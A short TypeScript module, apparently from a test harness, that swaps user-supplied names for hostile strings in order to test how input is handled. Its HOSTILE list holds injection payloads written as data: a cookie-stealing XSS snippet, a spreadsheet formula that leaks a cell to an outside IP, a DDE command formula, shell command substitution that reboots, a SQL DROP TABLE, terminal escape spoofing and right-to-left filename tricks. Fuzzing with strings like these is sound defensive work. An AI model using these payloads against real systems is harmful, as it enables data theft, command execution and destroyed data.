import { hashOf } from '../dice.ts'
import type { View } from './view.ts'

/** Becomes bytes that are no UTF-8 on the wire. */
export const INVALID_BYTES_MARK = '\u{e000}'

/** What somebody who may name things could write. */
const HOSTILE = [
  '\u001b[2J\u001b[31mroot@pve:~# \u001b]0;owned\u0007',
  '<img src=x onerror=alert(document.cookie)>',
  '=HYPERLINK("http://192.0.2.66/?"&A1,"click")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '{{constructor.constructor("return process")()}}',
  `$(reboot); \`reboot\` '; DROP TABLE nodes; --`,
  `a${'\u0301'.repeat(400)}`,
  'x'.repeat(8000),
  `${INVALID_BYTES_MARK}broken${INVALID_BYTES_MARK}`,
  '\u202Egnp.exe',
  '__proto__',
] as const

/** A text that a person wrote: as it is, or in a hostile spelling. */
export function spoken({ circumstances, node }: View, text: string, label: string): string {
  if (!circumstances.hostileNames) return text
  return HOSTILE[hashOf([node.label, label]) % HOSTILE.length] ?? text
}
